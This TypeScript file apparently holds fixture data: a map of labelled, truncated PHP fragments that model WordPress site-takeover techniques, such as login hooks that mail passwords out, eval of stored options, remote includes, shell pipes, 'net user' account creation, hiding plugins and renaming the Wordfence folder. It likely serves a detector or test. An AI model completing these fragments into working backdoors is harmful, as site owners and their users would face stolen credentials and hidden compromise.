import { fill } from './fill.ts';

/** The same for code that takes over its own site. */
export const SITE_INPUTS: Readonly<Record<string, string>> = {
  'passwords that are asked for': fill("add_filter('authenticate','f');function f($a,$b,$c){}", '<?php '),
  'fields in a template': fill("{$_POST['a']}", '<?php echo "'),
  'loops that wait': fill('while(1){sleep(1);ignore_user_abort();}', '<?php '),
  'functions at hooks': fill("add_action('wp_authenticate',function($a,$b){mail('a@b',$b);});", '<?php '),
  'tables of functions': fill("$a=['system'];$a[$_GET['b']](1);", '<?php '),
  'kinds of uploads': fill("$a['php']=", "<?php add_filter('upload_mimes','f');"),
  'statements without a table': fill("echo 'select password from ';", '<?php '),
  'scripts in figures': fill("echo '<script>'.hex2bin('612e7372633d').'</script>';", '<?php '),
  'documents that are saved': fill("$a->loadXML($_POST['a']);$a->save($b);", '<?php '),
  'filters of contents': fill("add_filter('the_content',function($a){return $a;});", '<?php '),
  'short functions': fill('$a1=fn($b)=>$c.', '<?php '),
  'objects of Windows': fill("$a=new COM('wscript.shell');$a->run('a');", '<?php '),
  'plugins taken off lists': fill('unset($a[$b]);', "<?php add_filter('all_plugins', 'f');"),
  'rows without an end': fill('tr[data-slug=a],', "<?php add_filter('a', 'f'); echo '"),
  guardians: fill("'plugins/wordfence/',", '<?php rename(a);$a=['),
  'includes of hosts': fill("include 'http://'.a;", '<?php '),
  'what is kept, run': fill('$a=get_option(b);eval($a);', '<?php '),
  'programs that are written to': fill("$a=popen('sh','w');fwrite($a,$b);", '<?php '),
  buffers: fill('ob_start();echo $a;$b=ob_get_clean();', '<?php '),
  'accounts by commands': fill('net user a ', "<?php system('"),
};
